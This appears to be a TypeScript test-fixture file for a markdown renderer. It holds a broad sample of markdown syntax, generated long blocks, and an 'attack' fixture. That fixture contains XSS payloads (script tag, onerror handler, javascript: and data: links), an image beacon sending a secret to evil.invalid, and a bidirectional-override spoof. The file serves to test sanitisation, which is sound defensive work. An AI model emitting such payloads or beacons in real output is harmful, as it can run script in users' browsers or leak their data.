/** Every construct once. */
export const everything = `# Everything once

A paragraph with **strong**, *emphasis*, ***both***, ~~deleted~~, \`code\`, a [link](https://example.org "Example"), a bare address https://example.org/a_b and me@example.org.  
A hard line break, an escape \\*, an entity &copy;, and a footnote[^1].

Setext heading
--------------

1. First
2. Second
   - nested
   - \`\`\`ts
     const fence = 'in an item'
     \`\`\`
3. Third

- [x] done
- [ ] open

> A quote
>
> > in a quote

> [!TIP]
> Alerts are an extension.

| left | centre | right |
|:-----|:------:|------:|
| **a** | \`b\` | 1 |
| c | d \\| e | 22 |

\`\`\`python
def greet(name: str) -> str:
    # half-open markup never flashes
    return f"Hello, {name}!"
\`\`\`

---

### 中文与强调

**「流式」**的文字，*「逐字」*显示。**注意（重要）：**标点不影响强调。

### عربي

هذا نص من اليمين إلى اليسار مع **كلمة بارزة**.

<b>Raw HTML</b> is text.

[^1]: Footnotes are an extension too.
`

/** Long blocks of one kind. */
export const longTexts = {
  code: `\`\`\`ts\n${Array.from({ length: 1500 }, (_, n) => `export const value${n} = compute(${n}) // line ${n}\n`).join('')}\`\`\`\n`,
  list: Array.from({ length: 300 }, (_, n) => `${n + 1}. Item ${n} with **strong** words and \`code\`\n`).join(''),
  table: `| n | square | word |\n|--:|--:|---|\n${Array.from({ length: 500 }, (_, n) => `| ${n} | ${n * n} | **word** ${n} |\n`).join('')}`,
  'fence in an item': `- Look:\n\n  \`\`\`js\n${Array.from({ length: 800 }, (_, n) => `  run(${n})\n`).join('')}  \`\`\`\n`,
}

/** What a page has to survive. */
export const attack = `## Nothing here runs or loads by itself

<script>alert('script')</script> <img src=x onerror="alert('handler')">

- [a link that would run](javascript:alert(1)) and [one in disguise](java&#10;script:alert(1))
- [a data address](data:text/html,<script>alert(1)</script>)
- a beacon: ![your secret is 42](https://evil.invalid/leak?secret=42)
- a reference: ![pixel][x]
- a hidden direction: pay \u202e001$\u202c now

[x]: https://evil.invalid/pixel.png
`
